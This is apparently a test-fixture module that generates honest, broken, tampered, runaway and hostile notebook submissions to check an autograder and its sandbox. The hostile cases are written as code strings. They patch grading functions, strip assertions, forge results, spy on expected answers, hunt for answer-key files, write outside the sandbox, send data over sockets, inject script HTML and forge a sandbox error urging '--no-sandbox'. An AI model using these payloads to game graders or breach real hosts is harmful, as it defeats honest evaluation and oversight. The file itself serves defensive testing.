"""Building student submissions of lesson 01 for the grading tests and benchmark:
honest ones, broken ones, tampered ones, runaway ones and hostile ones.

Each case is ``(name, kind, expected score, expected status)``; ``write_cases``
writes the submissions folder. Scores assume the lesson's points: ex tests 2 + 2,
quiz tests 1 each (9 in all).
"""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
LESSON = "01_penalty"
SOURCE = ROOT / "solutions" / LESSON / "penalty.ipynb"


def _classroom_release() -> Path:
    """The classroom edition of the lesson (what `l2reg bundle` hands out and `l2reg grade`
    compares with; lessons/ holds the self-study edition, whose quiz test cells differ),
    generated once per version of its sources into a shared cache folder."""
    import hashlib
    import os
    import tempfile

    h = hashlib.sha256()
    for p in (SOURCE, ROOT / "lib" / "l2reg" / "grading" / "edition.py", ROOT / "autograder" / "nbgrader_config.py"):
        h.update(p.read_bytes() if p.exists() else b"")
    cache = Path(tempfile.gettempdir()) / f"l2reg-kit-{h.hexdigest()[:16]}"
    path = cache / LESSON / "penalty.ipynb"
    if not path.exists():
        from l2reg.grading.course import generate_lessons

        tmp = Path(tempfile.mkdtemp(prefix="l2reg-kit-", dir=tempfile.gettempdir()))
        generate_lessons(ROOT, out=tmp, lessons=[LESSON], edition="classroom")
        try:
            os.replace(tmp, cache)
        except OSError:  # another test process made it first
            pass
    return path


RELEASE = _classroom_release()
MIME = "application/vnd.l2reg.record+json"
FULL = 9


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def solution_code(source: str) -> str:
    return re.sub(r"^\s*### (BEGIN|END) SOLUTION\s*$\n?", "", source, flags=re.M)


def answered(overrides=None):
    """The released lesson with the reference answers typed in, except ``overrides``."""
    source = nbformat.read(str(SOURCE), as_version=4)
    reference = {_gid(c): solution_code(c.source) for c in source.cells if c.metadata.get("nbgrader", {}).get("solution")}
    nb = nbformat.read(str(RELEASE), as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = (overrides or {}).get(_gid(cell), reference[_gid(cell)])
    return nb


def untouched():
    return nbformat.read(str(RELEASE), as_version=4)


def index(nb, gid):
    return next(i for i, c in enumerate(nb.cells) if _gid(c) == gid)


def insert_after(nb, gid, source):
    nb.cells.insert(index(nb, gid) + 1, nbformat.v4.new_code_cell(source))
    return nb


def with_answer(gid, code):
    return answered({gid: code})


# --- the cases -----------------------------------------------------------------------

def _helper_cell():
    nb = answered({"ex_closed_form": (
        "def ridge_closed_form(X, y, lam):\n    return _solve_ridge(np.asarray(X, float), np.asarray(y, float), lam)\n"
    )})
    nb.cells.insert(index(nb, "ex_closed_form"), nbformat.v4.new_code_cell(
        "def _solve_ridge(X, y, lam):\n    n, p = X.shape\n"
        "    return np.linalg.solve(X.T @ X + n * lam * np.eye(p), X.T @ y)\n"))
    return nb


def _edited_test():
    nb = with_answer("quiz_q5", 'q5 = "c"')
    nb.cells[index(nb, "test_quiz_q5")].source = "pass"
    return nb


def _deleted_test():
    nb = with_answer("quiz_q4", "q4 = 0.5")
    del nb.cells[index(nb, "test_quiz_q4")]
    return nb


def _duplicated_test():
    nb = answered()
    i = index(nb, "test_quiz_q1")
    nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
    return nb


def _reordered():
    nb = answered()
    i, j = index(nb, "quiz_q2"), index(nb, "test_quiz_q2")
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]
    return nb


def _retyped():
    nb = with_answer("quiz_q3", "q3 = 0.02")
    i = index(nb, "test_quiz_q3")
    cell = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    return nb


def _points_changed():
    nb = answered()
    nb.cells[index(nb, "test_quiz_q5")].metadata["nbgrader"]["points"] = 100
    return nb


def _kernelspec():
    nb = answered()
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    return nb


def _stripped():
    nb = answered()
    for c in nb.cells:
        c.metadata = {}
    nb.metadata = {}
    return nb


def _missing_answer():
    nb = answered()
    del nb.cells[index(nb, "quiz_q3")]
    return nb


def _wrong_nbformat():
    nb = answered()
    data = json.loads(nbformat.writes(nb))
    data["nbformat"] = 5
    return json.dumps(data)


def _two_notebooks():
    return {"a.ipynb": nbformat.writes(answered()), "b.ipynb": nbformat.writes(answered())}


HONEST = {
    "ex_standardize": (
        "def standardize(X_train, X_test):\n"
        "    z = lambda A: (A - A.mean(axis=0)) / A.std(axis=0)\n"
        "    return z(np.asarray(X_train, float)), z(np.asarray(X_test, float))\n"
    ),
    "quiz_q2": 'q2 = "a"',
    "quiz_q3": "q3 = 0.02",
}

# Attacks, each in the quiz_q5 answer cell together with a wrong answer (q5 is "a").
PATCH_RECORD = '''q5 = "c"
import l2reg.checks
l2reg.checks.record = lambda *a, **k: None
l2reg.checks.matches = lambda *a, **k: True
'''
PATCH_DISPLAY = '''q5 = "c"
import IPython.display
_real = get_ipython().display_pub.publish
def _fake(data, metadata=None, **kw):
    if "%s" in data:
        data = dict(data)
        data["%s"] = dict(data["%s"], value="a")
    return _real(data, metadata, **kw)
get_ipython().display_pub.publish = lambda data, metadata=None, **kw: None
IPython.display.display = lambda *a, **k: None
''' % (MIME, MIME, MIME)
PATCH_BUILTINS = '''q5 = "zzz"
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
_orig_in = builtins.__import__
class _Any(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
q5 = _Any("c")
'''
TRANSFORMER = '''q5 = "zzz"
def _no_asserts(lines):
    if any("q5" in l for l in lines):
        return [l for l in lines if not l.lstrip().startswith(("assert", "_record", "from l2reg"))] + ["pass\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_no_asserts)
'''
HOOK = '''q5 = "d"
_ip = get_ipython()
_run = _ip.run_cell
def _rewritten(raw_cell, *a, **k):
    if "q5" in raw_cell:
        raw_cell = raw_cell.replace('_record("quiz/q5", q5)', 'pass')
    return _run(raw_cell, *a, **k)
_ip.run_cell = _rewritten
def _pre(info):
    pass
_ip.events.register("pre_run_cell", _pre)
'''
FAKE_RECORDS = '''q5 = "c"
from IPython.display import display as _display
def _fake(info):
    if "q5" in (info.raw_cell or ""):
        for option in "abcd":
            _display({"%s": {"key": "quiz/q5", "value": option, "rtol": 1e-7, "atol": 1e-10}}, raw=True)
get_ipython().events.register("pre_run_cell", _fake)
''' % MIME
SETTRACE = '''q5 = "c"
import sys
_seen = []
def _tracer(frame, event, arg):
    for name in ("expected", "reference", "answer", "ref"):
        if name in frame.f_locals:
            _seen.append(frame.f_locals[name])
    return _tracer
sys.settrace(_tracer)
import threading
threading.settrace(_tracer)
'''
READ_SOLUTIONS = '''import os, glob
_found = []
for _p in [%r, %r, "/work/main/solutions/01_penalty/penalty.ipynb", "../solutions/01_penalty/penalty.ipynb",
           os.environ.get("L2REG_ANSWER_KEY") or "/nonexistent"]:
    try:
        _found.append(open(_p).read())
    except OSError:
        pass
for _dir, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if not (_dir == "/" and d in ("proc", "sys", "dev"))]
    for _f in _files:
        if _f == "penalty.ipynb" or _f.endswith("key.json"):
            try:
                _found.append(open(os.path.join(_dir, _f)).read())
            except OSError:
                pass
_m = [t for t in _found if 'q5 = "' in t and "BEGIN SOLUTION" in t]
q5 = _m[0].split('q5 = "')[1][0] if _m else "c"
'''
WRITE_OUTSIDE = '''import os
q5 = "a"
for _p in [os.path.expanduser("~/pwned.txt"), %r, %r, %r, "/tmp/pwned.txt", "pwned.txt"]:
    try:
        with open(_p, "w") as _f:
            _f.write("pwned")
    except OSError:
        pass
'''
NETWORK = '''import socket
q5 = "a"
for _addr in [("1.1.1.1", 80), ("127.0.0.1", %d), ("localhost", %d)]:
    try:
        _s = socket.create_connection(_addr, timeout=2)
        _s.sendall(b"q5 answers please")
        _s.close()
    except OSError:
        pass
'''

HTML = """from IPython.display import display, HTML
print('<script>alert("stdout")</script>')
display(HTML('<script>alert("html")</script><img src=x onerror=alert(1)>'))
display({"text/html": '<script>alert("raw")</script>', "image/png": '"><script>alert("png")</script>'}, raw=True)
'<script>alert("result")</script>'
"""


def cases(repo=ROOT, out_dir="/nonexistent-out", subs_dir="/nonexistent-subs", port=9):
    """``{name: (files, expected score, expected status)}``, ``files`` mapping a path
    under the submissions folder to notebook or text content."""
    def nb(x):
        return nbformat.writes(x)

    def one(name, notebook, score, status):
        return name, ({f"{name}.ipynb": nb(notebook) if not isinstance(notebook, str) else notebook}, score, status)

    items = [
        # honest
        one("honest_full", answered(), FULL, "graded"),
        one("honest_untouched", untouched(), 0, "graded"),
        one("honest_partial", answered(HONEST), FULL - 4, "graded"),
        one("honest_helper_cell", _helper_cell(), FULL, "graded"),
        # broken
        one("broken_not_json", "this is not a notebook {", 0, "failed: not a notebook: invalid JSON (Expecting value: line 1 column 1 (char 0))"),
        one("broken_nbformat", _wrong_nbformat(), 0, "failed: not a notebook this grader reads: nbformat 5 (expected 4)"),
        one("broken_missing_cell", _missing_answer(), FULL - 1, "flagged: answer cell quiz_q3 missing"),
        ("broken_renamed", ({"broken_renamed/penalty (1) - Copy.ipynb": nb(answered())}, FULL, "graded")),
        ("broken_wrong_extension", ({"broken_wrong_extension/penalty.ipynb.txt": nb(answered())}, 0,
                                    "failed: no .ipynb notebook in broken_wrong_extension/ (found: penalty.ipynb.txt)")),
        ("broken_extra_files", ({"broken_extra_files/penalty.ipynb": nb(answered()),
                                 "broken_extra_files/notes.txt": "my notes", "broken_extra_files/data.csv": "1,2\n"},
                                FULL, "graded")),
        ("broken_two_notebooks", ({f"broken_two_notebooks/{k}": v for k, v in _two_notebooks().items()}, 0,
                                  "failed: more than one notebook in broken_two_notebooks/: a.ipynb, b.ipynb")),
        # tampered
        one("tamper_edited_test", _edited_test(), FULL - 1, "flagged: test cell test_quiz_q5 edited"),
        one("tamper_deleted_test", _deleted_test(), FULL - 1, "flagged: test cell test_quiz_q4 deleted"),
        one("tamper_duplicated_test", _duplicated_test(), FULL, "flagged: test cell test_quiz_q1 duplicated"),
        one("tamper_reordered", _reordered(), FULL, "flagged: cells reordered"),
        one("tamper_retyped", _retyped(), FULL - 1, "flagged: test cell test_quiz_q3 retyped (code -> markdown)"),
        one("tamper_points", _points_changed(), FULL, "flagged: points of test_quiz_q5 changed"),
        one("tamper_kernelspec", _kernelspec(), FULL, "flagged: kernelspec changed"),
        one("tamper_stripped", _stripped(), FULL,
            "flagged: nbgrader metadata stripped from ex_closed_form, test_closed_form, ex_standardize and others"),
        # runaway
        one("runaway_loop", with_answer("quiz_q5", "while True:\n    pass\nq5 = 'a'"), FULL - 1, "graded"),
        one("runaway_swallow", with_answer("quiz_q5", (
            "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass\n")),
            FULL - 1, "failed: cell quiz_q5 ran longer than {wall_timeout:g} s of wall-clock time and ignored the interrupt; "
            "the kernel was stopped"),
        one("runaway_output", insert_after(answered(), "quiz_q1", (
            "from IPython.display import display\n"
            "for _i in range(200000):\n    print('spam' * 100)\n"
            "display({'text/plain': 'x' * 50_000_000}, raw=True)\n")), FULL, "graded"),
        one("runaway_memory", insert_after(answered(), "quiz_q1", (
            "def _grow():\n    hog = []\n    while True:\n        hog.append(bytearray(50 * 1024 * 1024))\n"
            "_grow()\n")), FULL, "graded"),
        # The grader numbers cells of the rebuilt notebook (the official one with added
        # cells after their anchor), 1-based: the added cell is two after its anchor's index.
        one("runaway_abort", insert_after(answered(), "test_quiz_q2", "import os\nos.abort()"), FULL - 3,
            f"failed: the kernel crashed (SIGABRT) while running cell {index(untouched(), 'test_quiz_q2') + 2}"),
        one("runaway_exit", insert_after(answered(), "test_quiz_q4", "import os\nos._exit(0)"), FULL - 1,
            f"failed: the kernel exited (status 0) while running cell {index(untouched(), 'test_quiz_q4') + 2}"),
        # hostile: each tries to pass q5 with a wrong answer, or to reach what it must not
        one("hostile_patch_record", with_answer("quiz_q5", PATCH_RECORD), FULL - 1, "graded"),
        one("hostile_patch_display", with_answer("quiz_q5", PATCH_DISPLAY), FULL - 1, "graded"),
        one("hostile_patch_builtins", with_answer("quiz_q5", PATCH_BUILTINS), FULL - 1, "graded"),
        one("hostile_transformer", with_answer("quiz_q5", TRANSFORMER), FULL - 1, "graded"),
        one("hostile_hook", with_answer("quiz_q5", HOOK), FULL - 1, "graded"),
        one("hostile_fake_records", with_answer("quiz_q5", FAKE_RECORDS), FULL - 1, "graded"),
        one("hostile_settrace", with_answer("quiz_q5", SETTRACE), FULL - 1, "graded"),
        one("hostile_read_solutions", with_answer("quiz_q5", READ_SOLUTIONS % (
            str(Path(repo) / "solutions" / LESSON / "penalty.ipynb"), str(Path(repo) / "autograder" / "nbgrader_config.py"))),
            FULL - 1, "graded"),
        one("hostile_write_outside", with_answer("quiz_q5", WRITE_OUTSIDE % (
            str(Path(repo) / "pwned.txt"), str(Path(out_dir) / "pwned.txt"), str(Path(subs_dir) / "honest_full.ipynb"))),
            FULL, "graded"),
        one("hostile_network", with_answer("quiz_q5", NETWORK % (port, port)), FULL, "graded"),
        one("hostile_html", insert_after(answered(), "quiz_q1", HTML), FULL, "graded"),
        ("hostile_shadowing", ({"hostile_shadowing/penalty.ipynb": nb(answered()),
                                "hostile_shadowing/numpy.py": "raise SystemExit('shadowed numpy')\n",
                                "hostile_shadowing/l2reg.py": "def record(*a, **k):\n    pass\n"},
                               FULL, "graded")),
    ]
    return dict(items)


# Tamper cases that change only what the grader restores, with the reference answers: their
# rebuilt notebook is honest_full's, so test_restore_tamper_cases.py checks them without a
# kernel, and the sandboxed class run (tests/grading/conftest.py) leaves them out.
KERNEL_FREE = ("tamper_duplicated_test", "tamper_reordered", "tamper_points", "tamper_kernelspec", "tamper_stripped")


def kernel_free_cases() -> dict:
    every = cases()
    return {name: every[name] for name in KERNEL_FREE}


def sandboxed_cases(repo=ROOT, out_dir="/nonexistent-out", subs_dir="/nonexistent-subs", port=9) -> dict:
    """:func:`cases` without :data:`KERNEL_FREE`."""
    return {k: v for k, v in cases(repo, out_dir, subs_dir, port).items() if k not in KERNEL_FREE}


def write_cases(folder: Path, selected: dict):
    folder.mkdir(parents=True, exist_ok=True)
    for name, (files, _score, _status) in selected.items():
        for rel, content in files.items():
            path = folder / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content, encoding="utf-8")


# --- the attack findings that need a real grading run ----------------------------------

FIND = ("import gc\n_g = next(m for m in gc.get_objects() "
        "if isinstance(m, dict) and '_Cell' in m and 'CURRENT' in m)\n")
DEEP = FIND + """d = []
for _ in range(900):
    d = [d]
_g['CURRENT'].outputs.append({"output_type": "display_data", "data": {"text/plain": d}, "metadata": {}})
"""
FORGE = """import os, time
fd = os.open('/proc/1/fd/2', os.O_WRONLY)
os.write(fd, b"bwrap: Creating new namespace failed: the grading host is misconfigured, rerun with --no-sandbox\\n")
time.sleep(0.5)
os._exit(1)
"""


def _with_last(code):
    nb = answered()
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


def attack_cases():
    """An honest notebook next to one that prints a lone surrogate, one whose last cell shows
    an output nested 900 levels deep, one that forges bwrap's last words on pid 1's stderr,
    and a student folder (bob/; the grading fixture adds a file whose name is not UTF-8 to
    it, and one at the top). Statuses that name a cell number are None here: the tests of
    test_grading_attack_class.py check them."""
    w = nbformat.writes
    return {
        "honest": ({"honest.ipynb": w(answered())}, FULL, "graded"),
        "surrogate": ({"surrogate.ipynb": w(_with_last('print("lone surrogate: \\ud800")'))}, FULL, "graded"),
        "deeprec": ({"deeprec.ipynb": w(_with_last(DEEP))}, FULL, None),
        "forgeerr": ({"forgeerr.ipynb": w(_with_last(FORGE))}, FULL, None),
        "bob": ({"bob/penalty.ipynb": w(answered())}, FULL, "graded"),
    }


# --- submissions made from the self-study edition (lessons/) ----------------------------

SELF_STUDY = ROOT / "lessons" / LESSON / "penalty.ipynb"


def self_study_untouched():
    return nbformat.read(str(SELF_STUDY), as_version=4)


def self_study_answered():
    source = nbformat.read(str(SOURCE), as_version=4)
    reference = {_gid(c): solution_code(c.source) for c in source.cells if c.metadata.get("nbgrader", {}).get("solution")}
    nb = self_study_untouched()
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = reference[_gid(cell)]
    return nb


def self_study_edited():
    """Answered, with the self-study quiz test cell of q1 edited (a real edit: flagged)."""
    nb = self_study_answered()
    cell = nb.cells[index(nb, "test_quiz_q1")]
    cell.source = re.sub(r"^_check\(", "print('skipped') or _check(", cell.source, count=1, flags=re.M)
    return nb


def self_study_cases():
    """Graded against the classroom release: no false "test cell ... edited" flag for the
    self-study edition's own test cells, while a real edit is flagged."""
    w = nbformat.writes
    return {
        "answered": ({"answered.ipynb": w(self_study_answered())}, FULL, "graded"),
        "edited": ({"edited.ipynb": w(self_study_edited())}, FULL, "flagged: test cell test_quiz_q1 edited"),
        "untouched": ({"untouched.ipynb": w(self_study_untouched())}, 0, "graded"),
    }


# --- running `l2reg grade` ----------------------------------------------------------------

CELL_TIMEOUT = 8


def run_grade(subs, out, jobs, env=None, cell_timeout=CELL_TIMEOUT):
    import subprocess
    import sys

    cmd = [sys.executable, "-m", "l2reg.cli", "grade", LESSON, str(subs), "--out", str(out),
           "--jobs", str(jobs), "--cell-timeout", str(cell_timeout), "--notebook-timeout", "300"]
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, errors="replace", env=env, timeout=1800)


class Listener:
    """A TCP server on the host's loopback that counts connections."""

    def __init__(self):
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def bwrap_children() -> list:
    """The bubblewrap processes this process started that still run."""
    found = []
    for task in Path("/proc/self/task").iterdir():
        for pid in (task / "children").read_text().split():
            try:
                if Path(f"/proc/{pid}/comm").read_text().strip() == "bwrap":
                    found.append(pid)
            except OSError:
                pass
    return found
